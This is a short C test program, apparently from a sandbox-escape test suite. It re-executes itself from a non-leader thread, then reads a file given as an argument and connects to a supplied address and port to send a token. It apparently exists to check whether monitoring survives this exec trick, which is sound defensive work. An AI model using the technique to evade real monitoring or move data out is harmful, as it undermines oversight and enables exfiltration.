// Execs from a thread that is not the leader: thread_exec PATH ADDRESS PORT TOKEN
#include <pthread.h>

#include "attack.h"

static char** all;

static void* Exec(void* unused) {
  (void)unused;
  char* words[] = {all[0], "inner", all[1], all[2], all[3], all[4], NULL};
  execv("/proc/self/exe", words);
  Say("exec: errno %d", errno);
  _exit(1);
}

static void* Idle(void* unused) {
  for (;;) pause();
  return unused;
}

int main(int argc, char** argv) {
  if (argc == 6) {
    Say("inner: pid %d tid %ld", getpid(), syscall(SYS_gettid));
    DumpFd("inner", open(argv[2], O_RDONLY));
    struct sockaddr_in to = Ipv4(argv[3], atoi(argv[4]));
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    long result = connect(fd, (struct sockaddr*)&to, sizeof to);
    Result("connect", result);
    if (result == 0 && write(fd, argv[5], strlen(argv[5])) < 0) Say("write: errno %d", errno);
    Done();
    return 0;
  }
  if (argc != 5) return 2;
  all = argv;
  pthread_t thread;
  for (int i = 0; i < 8; ++i) pthread_create(&thread, NULL, Idle, NULL);
  pthread_create(&thread, NULL, Exec, NULL);
  for (;;) pause();
}
